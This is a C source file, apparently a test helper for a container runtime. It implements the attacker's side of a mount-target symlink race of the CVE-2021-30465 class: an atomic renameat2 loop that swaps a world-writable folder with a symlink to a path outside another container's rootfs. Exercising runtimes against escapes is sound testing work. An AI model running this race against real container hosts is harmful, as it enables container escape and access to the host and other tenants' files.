/* The attacker's half of the mount-target race (the CVE-2021-30465
 * class), run in container A: in DIR, a folder A can write that is also
 * part of container B's rootfs, the folder "link" (the parent of B's
 * mount targets) is exchanged with a symlink to TARGET, a path outside
 * B's rootfs, as fast as the kernel allows (renameat2 RENAME_EXCHANGE,
 * atomic), until DIR/stop appears or SECONDS pass. A runtime that checks
 * B's mount target and then mounts onto it by path can meet the folder
 * at the check and the symlink at the mount (tests/escape/naive_mount.c).
 * It prints how many times it swapped. Built static with the target's
 * compiler; usage: bhc-swapper DIR TARGET SECONDS */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
	unsigned long long swaps = 0;
	time_t end;
	int dir;

	if (argc != 4) {
		fprintf(stderr, "usage: bhc-swapper DIR TARGET SECONDS\n");
		return 2;
	}
	end = time(NULL) + atoi(argv[3]);
	dir = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	/* Mode 0777 whatever the umask: B's root, another uid, makes its
	 * mount targets inside. */
	if (dir < 0 || (mkdirat(dir, "link", 0777) < 0 && errno != EEXIST) ||
	    fchmodat(dir, "link", 0777, 0) < 0 ||
	    (symlinkat(argv[2], dir, "link.swap") < 0 && errno != EEXIST)) {
		perror("bhc-swapper: set up");
		return 1;
	}
	printf("bhc-swapper: swapping %s/link with a symlink to %s\n", argv[1], argv[2]);
	fflush(stdout);
	for (;;) {
		if (syscall(SYS_renameat2, dir, "link", dir, "link.swap", RENAME_EXCHANGE) < 0) {
			perror("bhc-swapper: renameat2");
			return 1;
		}
		/* Stop with the folder back in place. */
		if (++swaps % 4096 == 0 &&
		    (faccessat(dir, "stop", F_OK, 0) == 0 || time(NULL) >= end))
			break;
	}
	printf("bhc-swapper: %llu swaps\n", swaps);
	return 0;
}
